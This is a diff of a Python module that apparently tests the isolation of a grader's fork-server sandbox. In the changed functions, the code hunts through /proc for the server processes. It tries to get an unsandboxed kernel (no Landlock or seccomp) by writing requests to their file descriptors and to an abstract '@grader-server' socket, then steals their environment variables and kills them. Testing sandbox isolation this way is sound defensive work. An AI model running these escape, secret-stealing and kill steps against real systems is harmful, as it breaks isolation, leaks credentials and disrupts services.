@@ -123,26 +123,25 @@ def leave_daemons():
 
 
 def servers():
-    """The fork server this kernel was forked from, where it can be seen (no PID namespace): the
-    highest of the processes above that run the server's command line (a kernel and its launcher
-    are forked from it, so they run it too), whose own parent does not."""
-    chain, pid = [], os.getpid()
+    """The fork server this kernel was forked from, and its handler and launcher, where they can be
+    seen (no PID namespace): the processes above that run the server's command line (they were
+    forked from it), but for this kernel's own process group."""
+    found, pid = [], os.getppid()
     while pid > 1:
         try:
             line = cmdline(pid)
             pid_next = int(open(f"/proc/{pid}/stat", "rb").read().rsplit(b")", 1)[1].split()[1])
+            if "zygote" in line and os.getpgid(pid) != os.getpgid(0):
+                found.append(pid)
         except (OSError, ValueError, IndexError):
             break
-        chain.append((pid, "zygote" in line, pid_next))
         pid = pid_next
-    forked = {pid for pid, is_server, _ in chain if is_server}
-    return [pid for pid, is_server, parent in chain if is_server and parent > 1 and parent not in forked
-            and any(p == parent for p, _, _ in chain)]
+    return found
 
 
 def ask_the_server():
     """Ask the fork server for a kernel of the attacker's own plan (no Landlock, no seccomp),
-    through any pipe this kernel holds and through the server's standard input; a launcher
+    through any pipe this kernel holds, its abstract socket and its handler's files; a launcher
     started from it would write its report into the leak folder.  Then steal its environment
     and kill it."""
     plan = os.path.abspath("server-plan.json")
@@ -155,10 +154,19 @@ def ask_the_server():
                 os.write(int(fd), request)
         except OSError:
             pass
+    for name in open("/proc/net/unix").read().split():
+        if name.startswith("@grader-server-"):
+            try:
+                client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                client.connect("\0" + name[1:])
+                client.sendall(request)
+                print(TAG, "server socket answered", client.recv(200))
+            except OSError:
+                pass
     found = servers()
     if not found:
         raise LookupError("no fork server in sight")
-    steps = [lambda pid=pid: open(f"/proc/{pid}/fd/0", "wb").write(request) for pid in found]
+    steps = [lambda pid=pid, fd=fd: open(f"/proc/{pid}/fd/{fd}", "wb").write(request) for pid in found for fd in range(8)]
     steps += [lambda pid=pid: steal(f"/proc/{pid}/environ") for pid in found]
     steps += [lambda pid=pid: os.kill(pid, signal.SIGKILL) for pid in found]
     refused = []
